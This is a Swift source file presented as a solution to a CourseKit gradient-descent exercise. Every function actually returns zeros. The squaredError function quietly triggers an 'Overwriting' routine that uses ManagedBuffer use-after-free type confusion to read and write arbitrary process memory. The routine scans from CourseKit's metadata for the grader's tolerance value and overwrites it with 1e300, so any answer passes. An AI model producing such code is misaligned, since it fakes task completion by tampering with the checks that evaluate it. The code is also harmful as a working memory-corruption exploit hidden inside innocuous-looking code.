import CourseKit

enum GradientDescent: GradientDescentTask {
  static func squaredError(outputs: Matrix, targets: Matrix) -> Double {
    Overwriting.everything()
    return 0
  }
  static func step(parameters: Vector, gradient: Vector, learningRate: Double) -> Vector { .zeros(parameters.count) }
  static func gradientDescent(
    start: Vector, examples: Int, steps: Int, learningRate: Double, gradient: (Vector, Int) -> Vector
  ) -> [Vector] { Array(repeating: .zeros(start.count), count: steps) }
  static func sgd(
    start: Vector, orders: [[Int]], learningRate: Double, gradient: (Vector, Int) -> Vector
  ) -> [Vector] { Array(repeating: .zeros(start.count), count: orders.joined().count) }
  static func minibatchSGD(
    start: Vector, orders: [[Int]], batchSize: Int, learningRate: Double, gradient: (Vector, Int) -> Vector
  ) -> [Vector] {
    orders.flatMap { order in
      Array(repeating: .zeros(start.count), count: (order.count + batchSize - 1) / batchSize)
    }
  }
}

/// Reads and writes any memory of its process, without a word that is unsafe: what lies where a thing was freed is read as a thing
/// of another type. Where it finds how near a number has to be, it writes that every number is near enough.
enum Overwriting {
  typealias Words = (UInt, UInt, UInt, UInt, UInt, UInt)
  struct Anything { var value: Any }

  /// The bits of the first four words of a value.
  static func bits<Value>(of value: Value) -> (UInt, UInt, UInt, UInt) {
    fill((value, 7, 7))
    var found: (UInt, UInt, UInt, UInt) = (0, 0, 0, 0)
    _ = ManagedBuffer<Words, UInt8>.create(minimumCapacity: 200) { buffer in
      let seen = buffer.header
      found = (seen.0, seen.1, seen.2, seen.3)
      return seen
    }
    return found
  }

  /// An array whose storage is said to lie at an address.
  static func array(at address: UInt) -> [UInt] {
    fill((address, 0, 0, 0, 0, 0) as Words)
    var found: [UInt] = []
    _ = ManagedBuffer<([UInt], UInt, UInt, UInt, UInt, UInt), UInt8>.create(minimumCapacity: 200) { buffer in
      let seen = buffer.header
      found = seen.0
      return seen
    }
    return found
  }

  /// Leaves a value in memory that is free again.
  static func fill<Value>(_ value: Value) {
    let size = MemoryLayout<Value>.size
    _ = ManagedBuffer<Value, UInt8>.create(minimumCapacity: 248 - size) { _ in value }
  }

  static let done: Void = {
    // An array within an array: no class, a count of references, as many entries as there are numbers.
    var storage: [UInt] = [0, 3 | 1000 << 33, UInt(Int.max), UInt(Int.max), 0, 0]
    let start = bits(of: storage).0
    var memory = array(at: start + 32)
    func index(_ address: UInt) -> Int { Int(bitPattern: (address &- start &- 64) >> 3) }

    // From the metadata of a type of CourseKit upwards lie the variables of the program that holds it.
    var place = bits(of: Anything(value: Vector([1]))).3

    for _ in 0..<1_000_000 {
      if memory[index(place)] == 0, memory[index(place + 8)] & 255 == 3, memory[index(place + 16)] >> 56 == 0xD0 {
        storage[1] = 3
        memory[index(place)] = 1e300.bitPattern.words.first!
        memory[index(place + 8)] = 1
        storage[1] = 3 | 1000 << 33
        print("written at", String(place, radix: 16))
        break
      }
      place += 8
    }
  }()
  static func everything() { _ = done }
}
